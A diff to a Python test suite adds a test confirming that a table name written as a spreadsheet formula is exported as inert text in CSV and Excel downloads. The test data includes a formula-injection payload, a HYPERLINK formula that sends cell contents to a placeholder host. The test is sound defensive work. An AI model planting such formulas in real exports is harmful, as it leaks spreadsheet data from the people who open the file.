@@ -601,6 +601,26 @@ def test_user_text_is_escaped_on_the_page_and_neutralized_in_spreadsheets(room):
     assert [row["theme"] for row in rows] == ['\'=HYPERLINK("http://x")', "Safe"]
 
 
+def test_a_table_named_like_a_formula_heads_the_matrix_as_text(room):
+    """Table names head the matrix's columns: a name that starts like a formula is text there
+    too, in the CSV (a leading ') and in Excel (a text cell, never a formula)."""
+    import csv
+    import zipfile
+
+    from openpyxl import load_workbook
+
+    owner = room.facilitator()
+    base = new_collection(owner)
+    formula = '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")'
+    upload(owner, base, ("x.json", export_bytes(NORTH, 11)), table_name=formula)
+    with zipfile.ZipFile(io.BytesIO(owner.get(base + "download/csv").data)) as archive:
+        header = next(csv.reader(io.StringIO(archive.read("matrix.csv").decode("utf-8-sig"))))
+    assert "'" + formula in header and formula not in header
+    book = load_workbook(io.BytesIO(owner.get(base + "download/xlsx").data))
+    names = [c for c in book["Matrix"][1] if c.value == formula]
+    assert names and all(c.data_type == "s" and c.quotePrefix for c in names)
+
+
 def test_a_themes_spanish_title_in_an_export_reaches_spanish_readers(room):
     owner = room.facilitator()
     base = new_collection(owner)
